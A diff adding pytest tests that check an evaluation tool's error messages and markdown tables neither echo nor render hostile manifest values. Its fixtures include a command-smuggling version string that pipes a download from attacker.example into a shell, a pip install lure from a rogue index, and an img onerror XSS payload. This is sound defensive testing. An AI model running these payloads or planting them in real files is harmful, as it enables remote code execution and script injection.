@@ -178,6 +178,21 @@ def test_a_missing_plugins_package_is_shown_only_if_it_is_a_package_name(hostile
     err = capsys.readouterr().err
     assert "pip install" not in err and "\x1b" not in err
     assert "members/0/package" in err and err.count("\n") == 1
+    assert "index-url" not in err and "attacker" not in err  # the lure is not echoed
+
+
+@pytest.mark.parametrize("member", [
+    {"version": "1 ; curl https://attacker.example/x | sh"},
+    {"name": {"run": "pip install evil --index-url https://attacker.example/simple"}},
+])
+def test_schema_errors_name_the_field_without_echoing_a_lure(hostile, capsys, member):
+    manifest = json.loads((hostile / "manifest.json").read_text())
+    manifest["members"][0].update(member)
+    (hostile / "manifest.json").write_text(json.dumps(manifest))
+    assert main(["evaluate", str(hostile)]) == 2
+    err = capsys.readouterr().err
+    assert f"members/0/{next(iter(member))}" in err and err.count("\n") == 1
+    assert "attacker" not in err and "curl" not in err and "index-url" not in err
 
 
 def web_app(folder):
@@ -254,3 +269,19 @@ def test_ids_with_a_bare_carriage_return_start_no_formula_row(workspace, tmp_pat
     raw = (tmp_path / "p.csv").read_bytes().decode()
     assert not [line for line in lines_of(raw) if line.startswith(("=", "@", "+", "-"))]
     assert "x\r'=2+2" in raw
+
+
+def test_evaluate_markdown_shows_names_and_labels_as_text():
+    """What `evaluate --format markdown` prints: member names (from a manifest a stranger
+    wrote) and labels are text, never HTML, links or extra cells."""
+    from markdown_it import MarkdownIt
+
+    from engine.tables import to_markdown
+
+    table = pd.DataFrame({"accuracy": [0.5, 0.75], "F1 <b>fire</b>": [0.1, 0.2]},
+                         index=["<img src=x onerror=alert(1)>", "[nb](https://evil.example) | x"])
+    out = to_markdown(table)
+    html = MarkdownIt("commonmark").enable("table").render(out)
+    assert "<img" not in html and "<a " not in html and "<b>" not in html
+    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "&lt;b&gt;fire" in html
+    assert html.count("<td>") == 6 and html.count("<th>") == 3  # no extra cells
